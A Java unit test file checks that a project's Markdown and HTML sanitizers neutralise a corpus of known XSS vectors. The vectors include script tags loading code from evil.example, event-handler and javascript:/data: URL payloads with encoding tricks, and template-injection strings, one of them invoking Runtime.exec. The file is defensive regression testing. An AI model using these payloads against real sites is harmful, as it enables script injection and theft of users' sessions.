package vn.bantin.text;

import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Known XSS vectors, each run through every public renderer. The checks are written from
 * the contract in {@link Markdown}'s Javadoc, independently of the safelist in the code:
 * a looser safelist (for example jsoup's {@code relaxed()}, or one that lets
 * {@code javascript:} through) fails them.
 */
class XssCorpusTests {

	/** Allowed elements and, for each, its allowed attributes. */
	private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(Map.entry("h1", Set.of()),
			Map.entry("h2", Set.of()), Map.entry("h3", Set.of()), Map.entry("h4", Set.of()), Map.entry("h5", Set.of()),
			Map.entry("h6", Set.of()), Map.entry("p", Set.of()), Map.entry("br", Set.of()), Map.entry("hr", Set.of()),
			Map.entry("ul", Set.of()), Map.entry("ol", Set.of("start")), Map.entry("li", Set.of()),
			Map.entry("blockquote", Set.of()), Map.entry("pre", Set.of()), Map.entry("code", Set.of()),
			Map.entry("em", Set.of()), Map.entry("strong", Set.of()), Map.entry("del", Set.of()),
			Map.entry("sup", Set.of()), Map.entry("sub", Set.of()), Map.entry("a", Set.of("href", "title", "rel")),
			Map.entry("img", Set.of("src", "alt", "title")), Map.entry("table", Set.of()), Map.entry("thead", Set.of()),
			Map.entry("tbody", Set.of()), Map.entry("tr", Set.of()),
			Map.entry("th", Set.of("align", "colspan", "rowspan")),
			Map.entry("td", Set.of("align", "colspan", "rowspan")));

	private static final Map<String, Set<String>> URL_SCHEMES = Map.of("href", Set.of("http", "https", "mailto"), "src",
			Set.of("http", "https"));

	private static final Pattern SCHEME = Pattern.compile("^([a-z][a-z0-9+.-]*):");

	static Stream<String> vectors() {
		return Stream.of(
				// script tags, in all cases and encodings
				"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
				"<ScRiPt>alert(document.cookie)</sCrIpT>", "<script type=\"text/javascript\">alert(1)</script>",
				"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)<</script>/script>",
				"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
				"%3Cscript%3Ealert(1)%3C/script%3E", "<script\u0000>alert(1)</script>",
				"<script/xss src=\"https://evil.example/x.js\"></script>",
				// images and SVG
				"<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">",
				"<img src=x onerror=alert(1)//", "<img src=\"x\" alt=\"x\" onerror=\"alert(1)\" style=\"color:red\">",
				"<img srcset=\"javascript:alert(1) 1x\" src=\"https://ok.example/a.png\">", "<svg onload=alert(1)>",
				"<svg><script>alert(1)</script></svg>",
				"<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
				"<math href=\"javascript:alert(1)\">x</math>",
				"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
				// javascript: links in Markdown and HTML, with tricks
				"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](jav&#x09;ascript:alert(1))",
				"[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )", "<javascript:alert(1)>",
				"[x][evil]\n\n[evil]: javascript:alert(1)", "[x][evil]\n\n[evil]: <JAVASCRIPT:alert(1)> \"t\"",
				"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
				"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
				"<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>",
				"<a href=\"\u0000javascript:alert(1)\">x</a>", "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
				// data: and vbscript:
				"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
				"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
				"<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
				"<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "<a href=\"vbscript:msgbox(1)\">x</a>",
				"[x](vbscript:msgbox(1))",
				// frames, objects, styles
				"<iframe src=\"https://evil.example\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
				"<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
				"<style>body{background:url(javascript:alert(1))}</style>",
				"<p style=\"width:expression(alert(1))\">x</p>",
				"<div style=\"background-image: url(javascript:alert(1))\">x</div>",
				"<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
				"<link rel=stylesheet href=\"javascript:alert(1)\">",
				// event handlers
				"<a href=\"#\" onclick=\"alert(1)\">x</a>", "<body onload=alert(1)>",
				"<a href=\"https://ok.example\" target=_blank onmouseover=alert(1)>x</a>",
				"<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>",
				"<marquee onstart=alert(1)>x</marquee>", "<video><source onerror=alert(1)></video>",
				"<p onclick=alert(1)>x</p>", "<span onmouseover=alert(1) class=x>di chuột</span>",
				"<u onclick=alert(1)>gạch chân</u>", "<q cite=\"javascript:alert(1)\" onclick=alert(1)>x</q>",
				"<ul type=\"disc\" onclick=alert(1)><li>x</li></ul>", "<dl><dt onclick=alert(1)>a</dt><dd>b</dd></dl>",
				"<table summary=x width=100% onclick=alert(1)><tr><td width=1 axis=x>x</td></tr></table>",
				// a tracking pixel with a handler
				"<img src=\"https://ok.example/p.gif\" width=\"1\" height=\"1\" onload=alert(1)>",
				// comments, head elements, forms
				"<!--<script>alert(1)</script>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
				"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
				"<base href=\"javascript:alert(1)//\">",
				"<form action=\"javascript:alert(1)\"><button>x</button></form>",
				"<isindex action=javascript:alert(1) type=image>",
				// parser differentials
				"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
				"<xmp><script>alert(1)</script></xmp>", "<textarea><script>alert(1)</script></textarea>",
				// Markdown titles and templates
				"![x](https://ok.example/a.png \"\\\" onerror=\\\"alert(1)\")",
				"[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
				"{{constructor.constructor('alert(1)')()}}",
				"<p>[[${T(java.lang.Runtime).getRuntime().exec('id')}]]</p>");
	}

	@ParameterizedTest(name = "[{index}] {0}")
	@MethodSource("vectors")
	void markdownHtmlIsSafe(String vector) {
		assertSafeHtml(Markdown.toHtml(vector));
	}

	@ParameterizedTest(name = "[{index}] {0}")
	@MethodSource("vectors")
	void pastedHtmlIsSafe(String vector) {
		assertSafeHtml(SafeHtml.clean(vector));
	}

	@ParameterizedTest(name = "[{index}] {0}")
	@MethodSource("vectors")
	void markdownFromPastedHtmlRendersSafely(String vector) {
		assertSafeHtml(Markdown.toHtml(SafeHtml.toMarkdown(vector)));
	}

	@ParameterizedTest(name = "[{index}] {0}")
	@MethodSource("vectors")
	void plainAndSpokenTextHaveNoScript(String vector) {
		assertThat(Markdown.toPlainText(vector).toLowerCase(Locale.ROOT)).doesNotContain("<script");
		assertThat(Markdown.toSpokenText(vector).toLowerCase(Locale.ROOT)).doesNotContain("<script");
	}

	@Test
	void theCorpusIsLargeEnough() {
		assertThat(vectors().count()).isGreaterThanOrEqualTo(30);
	}

	@Test
	void theCheckRejectsWhatItShould() {
		assertUnsafe("<a href=\"javascript:alert(1)\">x</a>");
		assertUnsafe("<a href=\" JaVa&#x09;Script:alert(1)\">x</a>");
		assertUnsafe("<img src=\"data:image/png;base64,AAAA\">");
		assertUnsafe("<a href=\"mailto:x@example.org\" onclick=\"x\">x</a>");
		assertUnsafe("<p style=\"color:red\">x</p>");
		assertUnsafe("<span>x</span>");
		assertUnsafe("<img src=\"mailto:x@example.org\">");
		assertUnsafe("<p><!-- x --></p>");
		assertSafeHtml("<p><a href=\"media/x.pdf\" rel=\"nofollow noopener\">x</a> <img src=\"media/x.png\"></p>");
	}

	private static void assertUnsafe(String html) {
		assertThatThrownBy(() -> assertSafeHtml(html)).as("check accepted %s", html).isInstanceOf(AssertionError.class);
	}

	/**
	 * Parses {@code html} back as a browser would and checks the contract: only allowed
	 * elements and attributes, no event handler, no style, no comment, and no URL whose
	 * scheme (after entity decoding, removing what browsers ignore and lower-casing) is
	 * not allowed.
	 */
	static void assertSafeHtml(String html) {
		Document doc = Jsoup.parseBodyFragment(html);
		Element body = doc.body();
		assertThat(body.nodeStream(Comment.class).toList()).as("comments in %s", html).isEmpty();
		for (Element el : body.getAllElements()) {
			if (el == body) {
				continue;
			}
			String name = el.normalName();
			assertThat(ALLOWED).as("element <%s> in %s", name, html).containsKey(name);
			for (Attribute attribute : el.attributes()) {
				String key = attribute.getKey().toLowerCase(Locale.ROOT);
				assertThat(key).as("attribute in %s", html).doesNotStartWith("on").isNotEqualTo("style");
				assertThat(ALLOWED.get(name)).as("attribute %s of <%s> in %s", key, name, html).contains(key);
				Set<String> schemes = URL_SCHEMES.get(key);
				if (schemes != null) {
					String scheme = scheme(attribute.getValue());
					if (scheme != null) {
						assertThat(schemes).as("%s=\"%s\" in %s", key, attribute.getValue(), html).contains(scheme);
					}
				}
			}
		}
	}

	/** The URL's scheme as a browser sees it, or {@code null} for a relative URL. */
	private static String scheme(String url) {
		String decoded = Parser.unescapeEntities(url, true);
		// browsers drop tabs and newlines anywhere, and C0 controls and spaces at the
		// ends
		String bare = decoded.replaceAll("[\\t\\n\\r]", "").replaceAll("^[\\x00-\\x20]+|[\\x00-\\x20]+$", "");
		Matcher matcher = SCHEME.matcher(bare.toLowerCase(Locale.ROOT));
		return matcher.find() ? matcher.group(1) : null;
	}

}
